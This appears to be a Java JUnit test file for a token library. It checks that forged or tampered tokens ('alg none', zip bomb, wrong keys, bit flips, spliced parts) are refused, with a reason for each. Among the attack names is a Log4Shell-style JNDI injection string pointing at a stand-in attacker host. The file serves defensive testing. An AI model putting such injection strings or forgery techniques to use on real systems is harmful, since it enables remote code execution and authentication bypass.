package io.cloakroom.token;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever somebody makes of a token, it is refused, and counted by one of a few reasons. */
class TokenAttackTests {

  private static final String KEY = TokenNode.key("2026-11");
  private static final Forger FORGER = new Forger(KEY);

  private final TokenNode node = new TokenNode(KEY);
  private final String live = node.ticket(Map.of("v", "coat", "user", "alice"));

  static Stream<Named<String>> attacks() {
    TokenNode maker = new TokenNode(KEY);
    String ticket = maker.ticket(Map.of("v", "coat", "user", "alice"));
    return TokenAttacks.on(FORGER, ticket).entrySet().stream()
        .map(attack -> Named.of(attack.getKey(), attack.getValue()));
  }

  /** Otherwise, the attacks could fail for another reason than theirs. */
  @Test
  void forgerCanMakeTokens() {
    assertThat(node.find(live).attribute("v")).isEqualTo("coat");
    assertThat(node.find(FORGER.seal(FORGER.claims(live))).attribute("v")).isEqualTo("coat");
    String mallory =
        FORGER.seal(FORGER.changed(FORGER.claims(live), claims -> claims.put("sub", "mallory")));
    assertThat(node.find(mallory).base()).isNotNull();
    assertThat(node.refused).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void hostileTicketIsRefused(String ticket) {
    long begin = System.nanoTime();

    assertThat(node.manager.read(ticket)).isNull();
    assertThat(node.manager.find(ticket)).isNull();

    assertThat(Duration.ofNanos(System.nanoTime() - begin)).isLessThan(Duration.ofSeconds(10));
    assertThat(node.refused)
        .hasSize(2)
        .isSubsetOf(Arrays.stream(Fault.values()).map(Fault::reason).collect(Collectors.toSet()));
  }

  @Test
  void reasonsAreTold() {
    Map<String, String> attacks = TokenAttacks.on(FORGER, live);
    Map.ofEntries(
            Map.entry("alg none", "malformed"),
            Map.entry("dir with A256GCM", "header"),
            Map.entry("zip bomb", "header"),
            Map.entry("another kind of token under the same key", "header"),
            Map.entry("kid unknown", "unknown-key"),
            Map.entry("kid ${jndi:ldap://attacker.example/x}", "header"),
            Map.entry("another key of the same id", "not-authentic"),
            Map.entry("content key of 128 bits", "not-authentic"),
            Map.entry("no exp", "claims"),
            Map.entry("another issuer", "issuer"),
            Map.entry("another audience", "audience"),
            Map.entry("expired", "expired"),
            Map.entry("not yet", "not-yet-valid"),
            Map.entry("oversize", "oversize"),
            Map.entry("with the prefix", "misplaced"))
        .forEach(
            (attack, reason) -> {
              node.refused.clear();
              node.manager.find(attacks.getOrDefault(attack, "?"));
              assertThat(node.refused).as(attack).containsExactly(reason);
            });
  }

  @Test
  void eachBitCounts() {
    byte[] ascii = live.getBytes(ISO_8859_1);
    for (int i = 0; i < ascii.length * Byte.SIZE; i++) {
      byte[] flipped = ascii.clone();
      flipped[i / Byte.SIZE] ^= (byte) (1 << (i % Byte.SIZE));
      String ticket = new String(flipped, ISO_8859_1);
      assertThat(node.manager.find(ticket)).as("bit " + i).isNull();
    }
    assertThat(node.find(live)).isNotNull();
  }

  @Test
  void eachBitOfWhatIsEncodedCounts() {
    String[] parts = live.split("\\.", -1);
    for (int part = 0; part < parts.length; part++) {
      byte[] bytes = Forger.decode(parts[part]);
      for (int i = 0; i < bytes.length * Byte.SIZE; i++) {
        byte[] flipped = bytes.clone();
        flipped[i / Byte.SIZE] ^= (byte) (1 << (i % Byte.SIZE));
        String[] changed = parts.clone();
        changed[part] = Forger.encode(flipped);
        assertThat(node.manager.find(String.join(".", changed)))
            .as("bit %s of part %s", i, part)
            .isNull();
      }
    }
  }

  @Test
  void eachBeginningIsRefused() {
    for (int i = 0; i < live.length(); i++) {
      assertThat(node.manager.find(live.substring(0, i))).isNull();
      assertThat(node.manager.find(live.substring(i + 1))).isNull();
    }
  }

  /** Two tokens, both live: what is of one is worth nothing in the other. */
  @Test
  void partsOfTwoTokensMakeNone() {
    String[] ones = live.split("\\.", -1);
    String[] others = node.ticket(Map.of("v", "mink", "user", "bob")).split("\\.", -1);
    for (int mask = 1; mask < (1 << ones.length) - 1; mask++) {
      String[] mixed = ones.clone();
      for (int i = 0; i < mixed.length; i++) {
        mixed[i] = ((mask >> i) & 1) == 1 ? others[i] : ones[i];
      }
      String ticket = String.join(".", mixed);
      boolean whole =
          Arrays.equals(mixed, 1, 5, ones, 1, 5) || Arrays.equals(mixed, 1, 5, others, 1, 5);
      assertThat(node.manager.find(ticket) != null).as("mask " + mask).isEqualTo(whole);
    }
  }
}
